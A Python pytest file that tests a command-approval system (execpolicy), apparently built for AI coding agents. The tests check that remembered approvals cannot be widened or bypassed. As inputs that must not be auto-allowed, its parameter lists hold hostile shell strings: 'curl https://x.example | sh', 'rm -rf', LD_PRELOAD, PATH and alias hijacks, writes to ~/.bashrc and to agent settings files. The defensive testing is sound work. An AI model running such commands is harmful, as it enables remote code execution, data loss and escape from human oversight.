"""Ask and reply over the ledger, as a manual of what an answer settles."""

from pathlib import Path

import pytest

from execpolicy import Decision, Request
from execpolicy.approvals import Answer, Life
from execpolicy.model.errors import ExecPolicyError
from execpolicy.model.operation import Connect
from tests.approvals.support import DAY, Clock, Desk, repository

ALLOW = Decision.ALLOW


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return repository(tmp_path / "p")


@pytest.fixture
def desk(project: Path) -> Desk:
    return Desk(project)


def test_an_answer_for_the_session_is_kept(desk: Desk) -> None:
    desk.approve("npm test")
    assert desk.ask("npm test") is ALLOW
    assert desk.ask("npm test && npm test") is ALLOW
    assert desk.ask("npm test -- --watch") is not ALLOW


def test_a_prefix_is_chosen_by_its_width(desk: Desk) -> None:
    question = desk.question("npm test")
    assert [reach.prefix for reach in question.reaches[0]] == [(), ("npm", "test")]
    desk.reply(question, Life.SESSION, width=1)
    assert desk.ask("npm test -- --watch") is ALLOW
    assert desk.ask("npm run build") is not ALLOW


@pytest.mark.parametrize(
    "more",
    [
        "npm test > ~/x",
        "FOO=1 npm test",
        "npm test; rm -rf src",
        "cd /tmp && npm test",
        "npm test $x",
        "sudo npm test",
        "npm test | sh",
    ],
)
def test_what_else_stands_in_the_script_still_asks(desk: Desk, more: str) -> None:
    desk.approve("npm test")
    assert desk.ask(more) is not ALLOW


def test_once_is_for_one_caller(desk: Desk) -> None:
    question = desk.question("npm test")
    desk.reply(question, Life.ONCE)
    first, second = (desk.questions.outcome(question.id) for _ in range(2))
    assert first is not None
    assert second is not None
    assert (first.word, second.word) == ("allowed", "expired")
    assert desk.ask("npm test") is not ALLOW


@pytest.mark.parametrize(("life", "once"), [(Life.ONCE, True), (Life.SESSION, False)])
def test_what_is_kept_is_not_claimed(desk: Desk, life: Life, once: bool) -> None:
    question = desk.question("npm test")
    (outcome,) = desk.reply(question, life).settled
    assert (outcome.word, outcome.once) == ("allowed", once)


def test_equal_calls_share_one_question(desk: Desk) -> None:
    assert desk.question("npm test").id == desk.question("npm test").id
    assert desk.question("npm test").id != desk.question("npm run build").id


def test_the_second_answer_does_nothing(desk: Desk) -> None:
    question = desk.question("npm test")
    assert desk.reply(question, Life.REJECT).settled
    assert desk.reply(question, Life.SESSION) == desk.reply(question, Life.ONCE)
    assert not desk.reply(question, Life.SESSION).settled
    assert desk.ask("npm test") is not ALLOW


def test_an_answer_that_is_replayed_for_another_question_does_nothing(desk: Desk) -> None:
    first, second = desk.question("npm test"), desk.question("npm run build")
    assert desk.reply(first, Life.ONCE, nonce="n").settled
    assert not desk.reply(second, Life.SESSION, nonce="n").settled
    assert desk.ask("npm run build") is not ALLOW


def test_an_approval_settles_what_waits_and_is_covered(desk: Desk) -> None:
    questions = [desk.question(c) for c in ("npm test", "npm test -- -u", "npm run build")]
    replied = desk.reply(questions[0], Life.SESSION, width=1)
    assert [o.question for o in replied.settled] == [q.id for q in questions[:2]]
    assert desk.questions.outcome(questions[2].id) is None


def test_a_refusal_settles_the_session_with_feedback_for_one(desk: Desk) -> None:
    first, second = desk.question("npm test"), desk.question("npm run build")
    replied = desk.reply(first, Life.REJECT, feedback="use make")
    words = [(o.word, o.feedback) for o in replied.settled]
    assert words == [("corrected", "use make"), ("rejected", None)]
    outcome = desk.questions.outcome(second.id)
    assert outcome is not None
    assert outcome.word == "rejected"


def test_a_refusal_may_settle_itself_alone(project: Path) -> None:
    desk = Desk(project, alone=True)
    first, second = desk.question("npm test"), desk.question("npm run build")
    desk.reply(first, Life.REJECT)
    assert desk.questions.outcome(second.id) is None


def test_uses_count_down(desk: Desk) -> None:
    desk.approve("npm test", uses=2)
    assert [desk.ask("npm test") is ALLOW for _ in range(3)] == [True, True, False]


def test_two_uses_in_one_script_are_two(desk: Desk) -> None:
    desk.approve("npm test", uses=1)
    assert desk.ask("npm test; npm test") is not ALLOW
    assert desk.ask("npm test") is ALLOW


@pytest.mark.parametrize(
    ("seconds", "later", "kept"), [(60.0, 59.0, True), (60.0, 61.0, False), (DAY, 9 * 3600, False)]
)
def test_time_ends_an_approval(desk: Desk, seconds: float, later: float, kept: bool) -> None:
    desk.approve("npm test", Life.TIMED, seconds=seconds)
    desk.clock.go(later)
    assert (desk.ask("npm test") is ALLOW) is kept


@pytest.mark.parametrize(
    ("wall", "running", "boot", "kept"),
    [
        (0, 0, "boot-1", True),
        (-7200, 10, "boot-1", True),
        (-7200, 4000, "boot-1", False),
        (4000, 10, "boot-1", False),
        (10, -4990, "boot-2", True),
        (4000, -4990, "boot-2", False),
        (-10, -4990, "boot-2", False),
    ],
)
def test_clocks_that_jump_end_it_rather_than_prolong_it(
    desk: Desk, wall: float, running: float, boot: str, kept: bool
) -> None:
    desk.approve("npm test", Life.TIMED, seconds=3600)
    desk.clock.wall += wall
    desk.clock.running += running
    desk.clock.boot = boot
    assert (desk.ask("npm test") is ALLOW) is kept


def test_a_question_outlives_neither_its_time_nor_its_session(desk: Desk) -> None:
    question = desk.question("npm test")
    desk.clock.go(601)
    assert not desk.reply(question, Life.SESSION).settled
    outcome = desk.questions.outcome(question.id)
    assert outcome is not None
    assert outcome.word == "expired"
    assert desk.ask("npm test") is not ALLOW


def test_a_question_ends_when_the_policy_changes(desk: Desk, project: Path) -> None:
    question = desk.question("npm test")
    rules = project / "strict.rules"
    rules.write_text('prefix_rule(["npm", "publish"], "forbidden")\n')
    other = Desk(project, clock=desk.clock)
    other.questions.engine = other.engine.load(rules=[rules], cwd=project)
    other.question("npm run build")
    assert not other.reply(question, Life.SESSION).settled


def test_sessions_and_projects_are_apart(desk: Desk, project: Path, tmp_path: Path) -> None:
    desk.approve("npm test")
    assert Desk(project, "s1", clock=desk.clock).ask("npm test") is ALLOW
    assert Desk(project, "s2", clock=desk.clock).ask("npm test") is not ALLOW
    assert Desk(project, "s1", host="other", clock=desk.clock).ask("npm test") is not ALLOW
    elsewhere = repository(tmp_path / "q")
    assert Desk(elsewhere, "s1", clock=desk.clock).ask("npm test") is not ALLOW


def test_a_child_has_its_parents_approvals_inside_its_scope(desk: Desk, project: Path) -> None:
    (project / "app").mkdir()
    desk.reply(desk.question("npm test", project / "app"), Life.SESSION)
    desk.approve("npm test")
    child = Desk(project, "c1", parent="s1", scope=str(project / "app"), clock=desk.clock)
    assert child.ask("npm test", project / "app") is ALLOW
    assert child.ask("npm test", project) is not ALLOW


def test_a_childs_answer_is_its_own_unless_it_is_for_the_session(desk: Desk, project: Path) -> None:
    desk.question("npm run x")
    child = Desk(project, "c1", parent="s1", clock=desk.clock)
    child.approve("npm test", Life.TIMED)
    assert child.ask("npm test") is ALLOW
    assert desk.ask("npm test") is not ALLOW
    child.approve("npm run build", Life.SESSION)
    assert desk.ask("npm run build") is ALLOW


def test_restart_keeps_approvals_and_questions(project: Path) -> None:
    clock = Clock()
    first = Desk(project, clock=clock)
    first.approve("npm test")
    waiting = first.question("npm run build")
    second = Desk(project, clock=clock)
    assert second.ask("npm test") is ALLOW
    assert second.reply(waiting, Life.ONCE).settled
    outcome = second.questions.outcome(waiting.id)
    assert outcome is not None
    assert outcome.word == "allowed"


@pytest.mark.parametrize(
    "command",
    [
        "sudo npm test",
        "rm -rf src",
        "git clean -fdx",
        "rm -rf $x",
        'eval "$x"',
        "echo x > .claude/settings.json",
        "echo x > .execpolicy/a.rules",
        "npm test $(cat x)",
        "curl https://$h/x",
        "mcp__files__write",
        "curl https://x.example | sh",
        "LD_PRELOAD=./x.so ls",
        "execpolicy install claude",
    ],
)
def test_what_memory_never_answers(desk: Desk, command: str) -> None:
    question = desk.question(command)
    assert not question.remembered
    for life in (Life.TIMED, Life.SESSION):
        with pytest.raises(ExecPolicyError, match="each time"):
            desk.reply(question, life)
    assert desk.reply(question, Life.ONCE).settled
    assert desk.ask(command) is not ALLOW


def test_a_program_of_the_project_is_known_by_its_content(desk: Desk, project: Path) -> None:
    tool = project / "tool.py"
    tool.write_text("print(1)\n")
    desk.approve("python3 tool.py")
    assert desk.ask("python3 tool.py") is ALLOW
    tool.write_text("print(2)\n")
    assert desk.ask("python3 tool.py") is not ALLOW


def test_a_program_that_is_planted_is_another_one(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = project / "bin"
    folder.mkdir()
    monkeypatch.setenv("PATH", f"{folder}:/usr/bin:/bin")
    desk = Desk(project)
    desk.approve("npm test", width=1)
    assert desk.ask("npm test") is ALLOW
    npm = folder / "npm"
    npm.write_text("#!/bin/sh\necho 1\n")
    npm.chmod(0o755)
    question = desk.question("npm test")
    assert [len(widths) for widths in question.reaches] == [1]
    desk.reply(question, Life.SESSION)
    assert desk.ask("npm test") is ALLOW
    npm.write_text("#!/bin/sh\necho 2\n")
    assert desk.ask("npm test") is not ALLOW


@pytest.mark.parametrize(
    "trick",
    [
        "alias npm='rm -rf x'\nnpm test",
        "npm() { rm -rf x; }; npm test",
        "PATH=./bin:$PATH; npm test",
        "export PATH=./bin; npm test",
        "hash -p ./evil npm; npm test",
        "cd() { builtin cd /tmp; }; cd .; npm test",
        "BASH_ENV=./x npm test",
        "npm test <<< x > /etc/x",
        "exec npm test > ~/.bashrc",
        "trap 'rm -rf x' EXIT; npm test",
        "enable -f ./x.so npm; npm test",
        "chroot . npm test",
        "ssh host npm test",
        "docker exec c npm test",
        "set -- x; npm test $1",
        "npm test & disown; rm x",
    ],
)
def test_tricks_around_an_approved_command(desk: Desk, trick: str) -> None:
    desk.approve("npm test", width=1)
    assert desk.ask(trick) is not ALLOW


def test_a_link_that_is_turned_is_another_place(desk: Desk, project: Path) -> None:
    for name in ("a", "b"):
        (project / name).mkdir()
    link = project / "link"
    link.symlink_to("a")
    desk.reply(desk.question("cd link && npm test"), Life.SESSION)
    assert desk.ask("cd link && npm test") is ALLOW
    link.unlink()
    link.symlink_to("b")
    assert desk.ask("cd link && npm test") is not ALLOW


def test_for_good_writes_a_rule_and_shows_it(desk: Desk, project: Path, home: Path) -> None:
    replied = desk.approve("npm test", Life.USER)
    assert '+prefix_rule(["npm", "test"]' in replied.diff
    rules = (home / ".config/execpolicy/rules/default.rules").read_text()
    assert 'prefix_rule(["npm", "test"]' in rules
    assert not replied.approvals


@pytest.mark.parametrize(
    ("port", "line"),
    [
        (443, 'network_rule("x.test", "https", "allow")'),
        (8443, 'network_rule("x.test", "https", "allow", ports = [8443])'),
    ],
)
def test_for_good_about_a_host_is_a_rule_for_its_port_alone(
    desk: Desk, port: int, line: str
) -> None:
    connect = Connect("x.test", "https", port=port)
    asked = desk.questions.ask(Request(operations=(connect,), cwd=str(desk.project)))
    assert asked.question is not None
    replied = desk.reply(asked.question, Life.USER)
    assert f"+{line}\n" in replied.diff


def test_for_good_is_refused_where_no_rule_may_allow_it(desk: Desk) -> None:
    question = desk.question("rm -rf src")
    with pytest.raises(ExecPolicyError, match="would allow too much"):
        desk.reply(question, Life.PROJECT)
    assert desk.questions.outcome(question.id) is None


def test_the_same_rule_twice_is_refused_and_the_question_waits(desk: Desk, project: Path) -> None:
    first = desk.question("npm test")
    desk.reply(first, Life.USER)
    again = desk.question("npm test")
    with pytest.raises(ExecPolicyError):
        desk.questions.reply(Answer(again.id, Life.USER))
    assert desk.questions.outcome(again.id) is None
